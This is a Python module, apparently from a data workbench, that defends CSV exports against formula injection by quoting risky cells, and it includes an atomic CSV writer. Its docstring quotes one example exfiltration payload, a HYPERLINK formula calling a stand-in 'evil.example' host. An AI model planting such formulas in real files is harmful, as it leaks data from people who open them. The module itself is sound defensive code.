"""Spreadsheet-safe CSV: the one place the workbench neutralises formulas (CSV injection).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or a carriage return) as a formula, so participant text such as
``=HYPERLINK("http://evil.example/?d="&A1,"click")`` in a CSV can send data
away or run commands when someone opens the file. Following OWASP's guidance
on CSV injection, every text cell that starts with one of those characters is
prefixed with a single quote ``'``: the spreadsheet then shows the text as
text. Numbers (a numeric column, or a column whose every cell is a plain
number such as ``-0.25``) stay numbers.

- :func:`neutralise`: one cell (the rule itself; every export uses this or the vectorised twin below).
- :func:`neutralise_frame`: a DataFrame's text columns and column names, vectorised.
- :func:`neutralise_text_table`: a table read back from a CSV as text (every cell a string).
- :func:`write_csv`: write a DataFrame for people to open in a spreadsheet, atomically.

Machine records that must round-trip byte for byte (the curated snapshot whose
content hash is logged, a run's ``training_rows.csv``, a bundle's rows) are not
neutralised; people get a separate spreadsheet copy made with these functions.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

from ._atomic import atomic_path
from .errors import WorkbenchError

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)


def neutralise(value):
    """A cell as a spreadsheet will show it: text that could start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _neutralise_series(s):
    """``neutralise`` over a column of text (missing values and non-text cells untouched)."""
    try:
        risky = s.str.startswith(FORMULA_START, na=False)
    except AttributeError:  # a column of objects with no text at all (numbers, dates)
        return s
    risky = risky.astype(bool)
    if not risky.any():
        return s
    s = s.astype(object)
    return s.mask(risky, "'" + s[risky].astype(str))


def neutralise_frame(frame):
    """A copy of ``frame`` with every text cell and column name passed through :func:`neutralise`."""
    import pandas as pd

    out = frame.copy()
    for i in range(out.shape[1]):
        s = out.iloc[:, i]
        if s.dtype == object or isinstance(s.dtype, pd.StringDtype):
            out.isetitem(i, _neutralise_series(s))
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def neutralise_text_table(frame):
    """Like :func:`neutralise_frame` for a table read from a CSV as text (every cell a string, no header row).

    A column whose every non-empty cell below the header is a plain number (``-2``, ``0.5``, ``1e-3``) is a
    numeric column and stays as written; in any other column each cell follows :func:`neutralise`, so a
    ``-2`` among words becomes ``'-2``. The first row is the header and is always neutralised.
    """
    import pandas as pd

    out = frame.copy()
    for i in range(out.shape[1]):
        s = out.iloc[:, i]
        head, body = s.iloc[:1], s.iloc[1:]
        risky = body.str.startswith(FORMULA_START)
        if risky.any():
            filled = body[body != ""]
            if not filled.str.fullmatch(PLAIN_NUMBER).all():
                body = body.mask(risky, "'" + body[risky])
        out.isetitem(i, pd.concat([head.map(neutralise), body]))
    return out


def write_csv(frame, path, *, force: bool = False, header: bool = True, bom: bool = False,
              all_text: bool = False) -> Path:
    """Write ``frame`` (already neutralised) as a CSV for spreadsheets; returns the path.

    UTF-8 (with a byte-order mark if ``bom``, so Excel reads accents right when the file is opened with a
    double click), ``\\r\\n`` line ends and every cell with a line break, quote or comma quoted (RFC 4180).
    The file appears whole or not at all (a hidden partial file in the same folder, flushed to disk, then
    renamed). An existing file is replaced only with ``force``. Refusals are one sentence. ``all_text``
    says every cell is already a string (a table read as text, no missing values): the rows then go
    through the csv module directly, the same bytes as ``DataFrame.to_csv`` about 1.6 times faster.
    """
    path = Path(path)
    if path.is_dir():
        raise WorkbenchError(f"{path} is a folder.", "Give a file name, for example train.csv.",
                             key="export.error.folder", path=str(path))
    if not path.parent.is_dir():
        raise WorkbenchError(f"There is no folder {path.parent}.", "Create it first or choose another place.",
                             key="export.error.no_folder", path=str(path.parent))
    if path.exists() and not force:
        raise WorkbenchError(f"{path} already exists.", "Add --force to replace it, or choose another name.",
                             key="export.error.exists", path=str(path))
    try:
        with atomic_path(path) as tmp, tmp.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as fh:
            if all_text:
                writer = csv.writer(fh, lineterminator="\r\n")
                if header:
                    writer.writerow([str(c) for c in frame.columns])
                writer.writerows(zip(*(frame.iloc[:, i].tolist() for i in range(frame.shape[1])), strict=True))
            else:
                frame.to_csv(fh, index=False, header=header, lineterminator="\r\n")
    except OSError as exc:
        raise WorkbenchError(f"Cannot write {path}: {exc.strerror or exc}.",
                             "Check the disk space and the folder's permissions.",
                             key="export.error.write", path=str(path)) from None
    return path
